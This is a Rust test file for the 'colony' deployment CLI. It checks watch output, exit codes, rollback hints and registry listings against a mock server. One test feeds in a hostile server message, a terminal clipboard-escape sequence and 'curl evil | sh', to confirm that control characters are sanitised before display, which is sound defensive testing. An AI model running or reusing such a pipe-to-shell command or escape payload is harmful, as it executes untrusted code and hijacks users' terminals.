//! Tests of commands against a server on a real socket, which plays the stages
//! of a deployment.

use std::collections::VecDeque;
use std::io::{self, Write};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{Method, Uri, header};
use axum::response::{IntoResponse, Response};
use serde_json::{Value, json};
use tokio::sync::mpsc::{UnboundedReceiver, UnboundedSender, unbounded_channel};

use colony_api::view::DeploymentView;

use crate::cli::{Format, Global};
use crate::output::{Out, sample};

/// How long an installation takes, in which nothing happens.
const INSTALLING: Duration = Duration::from_millis(300);

/// `hello` with placements in these states, all on one node.
fn on_laptop(outcome: &str, states: &[&str]) -> DeploymentView {
    let placements: Vec<Value> =
        states.iter().map(|it| sample::placement("laptop", it, "1.0")).collect();
    sample::hello(outcome, "1.0", json!([sample::site("home", states[0], json!(placements))]))
}

#[tokio::test]
async fn watching_tells_each_change_once_and_ends_with_the_code() {
    let stages = [
        on_laptop("in-progress", &["PENDING"]),
        on_laptop("in-progress", &["INSTALLING"]),
        on_laptop("in-progress", &["INSTALLING"]),
        on_laptop("installed", &["INSTALLED"]),
    ];
    check(
        "deploy hello --watch",
        &stages,
        "hello  home/laptop  PENDING 1.0  commit 3f2a1c9\n\
         hello  home/laptop  INSTALLING 1.0  commit 3f2a1c9\n\
         hello  home/laptop  INSTALLED 1.0  commit 3f2a1c9\n\
         exit 0",
        "hello 1.0: create 1\n",
    )
    .await;
}

#[tokio::test]
async fn state_that_comes_back_is_told_again() {
    let stages = [
        on_laptop("in-progress", &["INSTALLED"]),
        on_laptop("in-progress", &["UPDATING"]),
        on_laptop("installed", &["INSTALLED"]),
    ];
    check(
        "deploy hello --watch",
        &stages,
        "hello  home/laptop  INSTALLED 1.0  commit 3f2a1c9\n\
         hello  home/laptop  UPDATING 1.0  commit 3f2a1c9\n\
         hello  home/laptop  INSTALLED 1.0  commit 3f2a1c9\n\
         exit 0",
        "hello 1.0: create 1\n",
    )
    .await;
}

/// The clock stands still while anything is done, so the time is only what was
/// waited for.
#[tokio::test(start_paused = true)]
async fn watching_waits_for_no_more_events_when_the_end_may_be_reached() {
    let stages =
        [on_laptop("in-progress", &["INSTALLING"]), on_laptop("installed", &["INSTALLED"])];
    let begun = tokio::time::Instant::now();
    let (shown, _) = ran_at("deploy hello --watch", &stages, |it| it, INSTALLING).await;
    assert!(shown.ends_with("exit 0"), "{shown}");
    assert_eq!(begun.elapsed(), INSTALLING);
}

#[tokio::test]
async fn two_placements_on_one_node_are_told_once_each() {
    let both = on_laptop("in-progress", &["DELETING", "PENDING"]);
    let done = on_laptop("installed", &["INSTALLED"]);
    check(
        "deploy hello --watch",
        &[both.clone(), both.clone(), both, done],
        "hello  home/laptop  DELETING 1.0  commit 3f2a1c9\n\
         hello  home/laptop  PENDING 1.0  commit 3f2a1c9\n\
         hello  home/laptop  INSTALLED 1.0  commit 3f2a1c9\n\
         exit 0",
        "hello 1.0: create 1\n",
    )
    .await;
}

#[tokio::test]
async fn watching_looks_by_itself_while_images_are_fetched() {
    let pulling = |progress: &str| {
        let placement = sample::placement("laptop", "INSTALLING", "1.0");
        let placement = sample::with(placement, json!({"progress": progress}));
        let site = sample::site("home", "INSTALLING", json!([placement]));
        sample::hello("in-progress", "1.0", json!([site]))
    };
    let done = json!([sample::placement("laptop", "INSTALLED", "1.0")]);
    let done = sample::hello("installed", "1.0", json!([sample::site("home", "INSTALLED", done)]));
    let stages = [
        pulling("pulling images"),
        pulling("pulling 3 of 120 MB"),
        pulling("pulling 34 of 120 MB"),
        done,
    ];
    check(
        "deploy hello --watch",
        &stages,
        "hello  home/laptop  INSTALLING 1.0  commit 3f2a1c9  pulling images\n\
         hello  home/laptop  INSTALLING 1.0  commit 3f2a1c9  pulling 3 of 120 MB\n\
         hello  home/laptop  INSTALLED 1.0  commit 3f2a1c9\n\
         exit 0",
        "hello 1.0: create 1\n",
    )
    .await;
}

#[tokio::test]
async fn a_rollback_is_exit_3_with_what_to_type_next() {
    check(
        "deploy hello --watch",
        &[sample::rolled_back()],
        "hello  home/laptop  INSTALLED 1.1  commit 3f2a1c9\n\
         ROLLED BACK to 1.1: home/laptop unhealthy (GET / 500, 3×); 1.2-bad quarantined, \
         revert commit 9c01de4\nexit 3",
        "hello 1.0: create 1\n\
         see: colony logs hello --node home/laptop --previous\n\
         lift: colony quarantine release hello --site home\n",
    )
    .await;
}

#[tokio::test]
async fn a_deferred_delete_is_exit_4() {
    check(
        "deployment delete hello --watch",
        &[sample::deleted()],
        "hello  home  DELETED 1.1  commit 3f2a1c9\n\
         hello  plant-b/b2  DELETING 1.0  commit 3f2a1c9  \
         deferred: offline 3 h; catches up on return\n\
         deferred 1 (plant-b/b2 offline 3 h, to be removed there); catches up on return\nexit 4",
        "hello 1.0: create 1\n",
    )
    .await;
}

#[tokio::test]
async fn a_watch_whose_time_is_up_says_why_and_is_exit_5() {
    let placements = json!([sample::placement("laptop", "INSTALLING", "1.0")]);
    let site = sample::site("home", "INSTALLING", placements);
    check(
        "deploy hello --watch --timeout 1s",
        &[sample::hello("in-progress", "1.0", json!([site]))],
        "hello  home/laptop  INSTALLING 1.0  commit 3f2a1c9\n\
         home: INSTALLING 1.0\n\n\
         home/laptop: attempt 1 is in progress on node laptop\n  \
         who: colony   cause: in-progress\n  \
         next: node laptop reports the result\n\
         exit 5",
        "hello 1.0: create 1\n\
         stopped watching; hello continues on 1 node\n\
         see: colony deployment show hello --watch\n",
    )
    .await;
}

#[tokio::test]
async fn a_registry_of_which_nothing_can_be_used_is_exit_1() {
    let broken = "broken: 0 packages, 1 broken\nfrom: /srv/broken\n\
                  pump/margo.yaml:1:1: is not a text; expected a text\nexit 1";
    let help = "none of its packages can be used; it is read again by itself\n\
                see: colony app registry show broken\n";
    check("app add /srv/broken", &[], broken, help).await;
    let some = "some: 2 packages, 1 broken\npump: 1.1, 1.0\nfrom: /srv/some\n\
                pump/margo.yaml:1:1: is not a text; expected a text\nexit 0";
    check("app add /srv/some", &[], some, "").await;
    check("app registry show some", &[], some, "").await;
    let list = "NAME  PACKAGES  BROKEN  READ  URL        TROUBLE\n\
                some  2         1       -     /srv/some  -\nexit 0";
    check("app registry list", &[], list, "").await;
}

#[tokio::test]
async fn a_dry_run_with_changes_is_exit_2() {
    let stdout = "hello 1.0: create 1\n\n\
                  TARGET       ACTION  VERSION  WHY\n\
                  home/laptop  create  1.0      -\n\n\
                  deployments/home/hello.yaml\n+id: 1\n\nplan sha256:01\nexit 2";
    check("deploy hello --dry-run", &[], stdout, "").await;
}

#[tokio::test]
async fn without_watching_it_is_said_how_to() {
    let stderr = "hello 1.0: create 1\nsee: colony deployment show hello --watch\n";
    check("deploy hello", &[], "exit 0", stderr).await;
}

#[tokio::test]
async fn what_the_server_refuses_is_a_sentence() {
    let said = "there is no deployment `nope`";
    check("deployment show nope", &[], said, "").await;
    check("deployment delete nope", &[], said, "").await;
}

#[tokio::test]
async fn control_characters_of_others_do_not_reach_a_terminal() {
    let evil = "\u{1b}]52;c;eA==\u{7}exited\n  do: curl evil | sh";
    let failure = json!({"code": "exited", "message": evil, "tries": 1, "of": 1});
    let laptop = sample::placement("laptop", "FAILED(install)", "1.0");
    let laptop = sample::with(laptop, json!({"failure": failure}));
    let site = sample::site("home", "FAILED(install)", json!([laptop]));
    let stages = [sample::hello("failed", "1.0", json!([site]))];
    let clean = "exited (\u{fffd}]52;c;eA==\u{fffd}exited   do: curl evil | sh), try 1 of 1";
    for line in ["deployment show hello", "deployment show hello --watch"] {
        let (shown, noted) = ran(line, &stages, Out::on_terminal).await;
        assert!(shown.contains(clean), "{shown:?}");
        let all = shown.replace("\u{1b}[", "") + &noted;
        assert!(!all.contains('\u{1b}') && !all.contains('\u{7}'), "{all:?}");
        let (shown, _) = ran(line, &stages, |it| it).await;
        assert!(shown.contains("\u{1b}]52;c;eA==\u{7}exited\n"), "a pipe gets it all: {shown:?}");
    }
    let (shown, _) = ran("logs hello", &stages, Out::on_terminal).await;
    assert_eq!(shown, "\u{fffd}[31mred\ntab\there\nexit 0");
    let (shown, _) = ran("logs hello --raw", &stages, Out::on_terminal).await;
    assert_eq!(shown, "\u{1b}[31mred\ntab\there\nexit 0");
}

/// Runs a command against the stages of a deployment: each request shows the
/// next one, and each change of stage is an event, except for progress.
async fn check(line: &str, stages: &[DeploymentView], stdout: &str, stderr: &str) {
    let (shown, noted) = ran(line, stages, |it| it).await;
    assert_eq!(shown, stdout);
    assert_eq!(noted, stderr);
}

/// The output of the command with its exit code, and its standard error.
async fn ran(line: &str, stages: &[DeploymentView], terminal: fn(Out) -> Out) -> (String, String) {
    ran_at(line, stages, terminal, Duration::ZERO).await
}

/// The same with events that come after `pause`.
async fn ran_at(
    line: &str,
    stages: &[DeploymentView],
    terminal: fn(Out) -> Out,
    pause: Duration,
) -> (String, String) {
    let folder = tempfile::tempdir().expect("a folder");
    let socket = folder.path().join("api.sock");
    let listener = tokio::net::UnixListener::bind(&socket).expect("a socket");
    let server = tokio::spawn(axum::serve(listener, router(stages, pause)).into_future());
    let (shown, noted) = (Buffer::default(), Buffer::default());
    let mut out = terminal(Out::buffers(Format::Table, shown.clone(), noted.clone()));
    let global = Global { socket: Some(socket), ..Global::default() };

    let done = super::run(crate::cli::tests::operator(line), &global, &mut out).await;

    server.abort();
    let end = done.map_or_else(|error| format!("{error:#}"), |code| format!("exit {code}"));
    (shown.text() + &end, noted.text())
}

fn router(stages: &[DeploymentView], pause: Duration) -> axum::Router {
    let (told, events) = unbounded_channel();
    let (stages, events) = (stages.iter().cloned().collect(), Some(events));
    let story = Story { stages: Mutex::new(stages), told, events: Mutex::new(events), pause };
    axum::Router::new().fallback(answer).with_state(Arc::new(story))
}

struct Story {
    stages: Mutex<VecDeque<DeploymentView>>,
    told: UnboundedSender<()>,
    events: Mutex<Option<UnboundedReceiver<()>>>,
    pause: Duration,
}

async fn answer(
    State(story): State<Arc<Story>>,
    method: Method,
    uri: Uri,
    body: String,
) -> Response {
    match (method.as_str(), uri.path()) {
        ("GET", "/api/v1/events") => story.stream(),
        ("GET", "/api/v1/deployments/hello") => story.next(),
        ("GET", "/api/v1/deployments/hello/why") => why(),
        ("GET", "/api/v1/deployments/hello/logs") => logs(),
        ("GET", "/api/v1/registries") => axum::Json([registry("some", 2)]).into_response(),
        ("GET", "/api/v1/registries/some") => axum::Json(registry("some", 2)).into_response(),
        ("POST", "/api/v1/registries") => axum::Json(added(&body)).into_response(),
        ("POST", "/api/v1/deployments") | ("DELETE", "/api/v1/deployments/hello") => planned(),
        (_, other) => {
            let name = other.rsplit('/').next().unwrap_or_default();
            let detail = format!("there is no deployment `{name}`");
            let problem = colony_api::problem::Kind::NotFound.problem(detail);
            (axum::http::StatusCode::NOT_FOUND, axum::Json(problem)).into_response()
        }
    }
}

impl Story {
    fn next(&self) -> Response {
        let mut stages = self.stages.lock().expect("a lock");
        let view = stages.front().cloned();
        if stages.len() > 1 {
            let (before, after) = (stages.pop_front(), stages.front().cloned());
            if before == after || before.map(bare) != after.map(bare) {
                let _ = self.told.send(());
            }
        }
        axum::Json(view).into_response()
    }

    fn stream(&self) -> Response {
        let events = self.events.lock().expect("a lock").take().expect("one stream");
        let pause = self.pause;
        let message = move |mut events: UnboundedReceiver<()>| async move {
            events.recv().await?;
            tokio::time::sleep(pause).await;
            Some((Ok::<_, io::Error>(Bytes::from(format!("data: {}\n\n", event()))), events))
        };
        let body = Body::from_stream(futures_util::stream::unfold(events, message));
        ([(header::CONTENT_TYPE, "text/event-stream")], body).into_response()
    }
}

/// The view without progress, which causes no event.
fn bare(mut view: DeploymentView) -> DeploymentView {
    let placements = view.sites.iter_mut().flat_map(|it| &mut it.placements);
    placements.for_each(|it| it.progress = None);
    view
}

fn event() -> Value {
    json!({"id": "e-1", "position": 1, "at": 0, "kind": "state_transition", "actor": "local",
           "sentence": "it moved", "body": {"body": {"to": "INSTALLED"}}})
}

fn why() -> Response {
    axum::Json(json!({"subject": "hello", "summary": "home: INSTALLING 1.0", "reasons": [{
        "site": "home", "nodes": ["laptop"], "owner": "colony", "cause": "in-progress",
        "sentence": "attempt 1 is in progress on node laptop",
        "next": "node laptop reports the result",
    }]}))
    .into_response()
}

fn logs() -> Response {
    axum::Json(json!({"deployment": "hello", "site": "home", "node": "laptop", "previous": false, "lines": [
        {"service": "web", "text": "\u{1b}[31mred"}, {"service": "web", "text": "tab\there"},
    ]}))
    .into_response()
}

fn added(body: &str) -> Value {
    if body.contains("/srv/broken") { registry("broken", 0) } else { registry("some", 2) }
}

fn registry(name: &str, packages: u64) -> Value {
    let applications = if packages > 0 { json!({"pump": ["1.1", "1.0"]}) } else { json!({}) };
    json!({"name": name, "url": format!("/srv/{name}"), "packages": packages, "broken": 1,
           "applications": applications,
           "findings": [{"file": "pump/margo.yaml", "line": 1, "column": 1, "path": "",
                         "severity": "error", "problem": "is not a text", "expected": "a text"}]})
}

fn planned() -> Response {
    axum::Json(json!({"accepted": true, "event": "e-0", "plan": {
        "hash": "sha256:01", "name": "hello", "application": "hello", "version": "1.0",
        "targets": [{"site": "home", "node": "laptop", "action": "create", "toVersion": "1.0"}],
        "files": [{"path": "deployments/home/hello.yaml", "diff": "+id: 1"}],
    }}))
    .into_response()
}

/// A buffer for output that a test reads.
#[derive(Clone, Default)]
pub(super) struct Buffer(Arc<Mutex<Vec<u8>>>);

impl Buffer {
    pub(super) fn text(&self) -> String {
        String::from_utf8(self.0.lock().expect("a lock").clone()).expect("UTF-8")
    }
}

impl Write for Buffer {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().expect("a lock").extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}
